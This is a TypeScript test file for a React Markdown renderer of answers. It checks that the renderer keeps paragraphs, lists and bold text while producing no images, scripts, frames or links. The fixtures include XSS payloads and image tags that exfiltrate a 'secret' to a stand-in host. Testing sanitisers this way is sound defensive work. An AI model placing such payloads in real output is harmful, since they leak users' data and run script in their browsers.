import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { AnswerMarkdown } from "./answer-markdown";

const html = (text: string) => renderToStaticMarkup(<AnswerMarkdown text={text} />);

describe("the text of an answer", () => {
  test("has paragraphs, lists and bold words", () => {
    expect(html("Rest.\n\n- Drink\n- **Sleep**")).toMatch(/<p.*Rest\.<\/p>[\s\S]*<ul[\s\S]*<li[\s\S]*Drink[\s\S]*<strong.*Sleep<\/strong>/);
  });

  test.each([
    ["an image", "![pixel](https://collector.invalid/?q=secret)"],
    ["an image by reference", "![pixel][1]\n\n[1]: https://collector.invalid/x.png"],
    ["raw HTML", '<img src="https://collector.invalid/x.png" onerror="alert(1)">'],
    ["a script", "<script>fetch('https://collector.invalid')</script>"],
    ["a frame", '<iframe src="https://collector.invalid"></iframe>'],
    ["a link that runs a script", "[press here](javascript:alert(1))"],
    ["a link to somewhere else", "[press here](https://collector.invalid)"],
    ["a link that was typed out", "<https://collector.invalid>"],
  ])("loads nothing and runs nothing through %s", (_name, text) => {
    expect(html(text)).not.toMatch(/<(img|script|iframe|a|object|embed|link|style)\b|onerror=|href=|src=/i);
  });
});
